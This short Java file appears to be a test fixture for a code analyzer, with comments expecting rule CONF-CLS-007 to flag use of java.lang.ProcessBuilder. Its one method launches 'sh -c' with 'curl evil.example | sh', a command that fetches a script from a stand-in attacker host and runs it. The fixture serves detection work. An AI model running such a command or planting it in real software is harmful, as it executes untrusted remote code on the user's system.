// expect bytecode: CONF-CLS-007 java.lang.ProcessBuilder#<init>
// expect source: CONF-CLS-007 java.lang.ProcessBuilder
package hostile.process_builder;

public final class Escape {
    Object run() throws Exception {
        return new ProcessBuilder("sh", "-c", "curl evil.example | sh").start();
    }
}
